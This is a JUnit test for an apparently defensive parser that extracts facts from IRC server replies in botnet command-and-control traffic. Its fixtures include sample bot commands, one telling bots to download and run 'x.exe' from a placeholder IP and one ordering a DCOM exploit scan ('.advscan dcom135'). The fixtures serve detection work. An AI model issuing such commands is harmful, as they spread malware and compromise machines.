package org.bottrace.detect.irc;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.List;
import org.junit.jupiter.api.Test;

/** The server's lines Suricata keeps in ftp events of IRC, as a member receives them. */
class ServerRepliesTest {
  @Test
  void parse_welcomeJoinTopicNamesLinesAndUserCounts() {
    ServerReplies r = ServerReplies.parse(List.of(
        ":cc.example 001 [USA|XP]-1234 :Welcome to the network",
        ":cc.example 251 [USA|XP]-1234 :There are 1 users and 5000 invisible on 1 servers",
        ":cc.example 266 [USA|XP]-1234 :Current global users: 5001  Max: 5012",
        ":[USA|XP]-1234!~qz@10.0.0.23 JOIN :#rx",
        ":cc.example 332 [USA|XP]-1234 #rx :.download http://198.51.100.8/x.exe c:\\x.exe 1",
        ":cc.example 353 [USA|XP]-1234 @ #rx :[USA|XP]-1234 @boss",
        ":boss!b@198.51.100.7 PRIVMSG #rx :.advscan dcom135 50 3 0 -r -s"));
    assertEquals("cc.example", r.server());
    assertEquals("[USA|XP]-1234", r.nick());
    assertEquals(List.of(new ServerReplies.Join("[USA|XP]-1234", "~qz", "#rx")), r.joins());
    assertEquals(List.of(new ServerReplies.Topic("#rx", ".download http://198.51.100.8/x.exe c:\\x.exe 1", null)),
        r.topics());
    assertEquals(List.of(new ServerReplies.Names("#rx", List.of("[USA|XP]-1234", "@boss"))), r.names());
    assertEquals(List.of(new ServerReplies.Message("boss!b@198.51.100.7", "PRIVMSG", "#rx",
        ".advscan dcom135 50 3 0 -r -s")), r.messages());
    assertEquals(new IrcFacts.UserCounts(1, 5000, -1, 5001, 1), r.users());
  }

  @Test
  void parse_channelErrors() {
    ServerReplies r = ServerReplies.parse(List.of(":cc.example 404 [USA|XP]-1234 #rx :Cannot send to channel",
        ":cc.example 482 [USA|XP]-1234 #rx :You're not channel operator",
        ":cc.example 472 [USA|XP]-1234 Q :is unknown mode char to me"));
    assertEquals(List.of(new ServerReplies.Refusal("404", "#rx"), new ServerReplies.Refusal("482", "#rx")), r.errors());
    org.bottrace.event.FlowKey f = new org.bottrace.event.FlowKey("10.0.0.23", 40000, "198.51.100.7", 4444, "tcp");
    IrcFacts.Record z = IrcFacts.of(new org.bottrace.event.IrcCmdEvent(1, "C1", f, false, "404", "#rx",
        "cc.example", -1, null, null, null, null));
    assertEquals(List.of(new IrcFacts.ChannelError("#rx", "404")), z.facts());
  }

  @Test
  void parse_ngircdsLusersHaveNoInvisibleCount() {
    ServerReplies r = ServerReplies.parse(List.of(":irc.example 251 anna :There are 4 users and 0 services on 1 servers",
        ":irc.example 255 anna :I have 4 users, 0 services and 0 servers"));
    assertEquals(new IrcFacts.UserCounts(4, -1, 4, -1, 1), r.users());
  }
}
